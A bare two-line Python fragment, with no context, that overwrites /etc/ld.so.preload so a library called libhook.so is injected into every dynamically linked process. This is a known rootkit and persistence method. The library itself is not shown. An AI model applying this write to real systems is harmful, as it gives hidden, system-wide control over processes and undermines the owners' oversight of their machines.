with open("/etc/ld.so.preload", "w") as f:
    f.write("/lib/x86_64-linux-gnu/libhook.so\n")
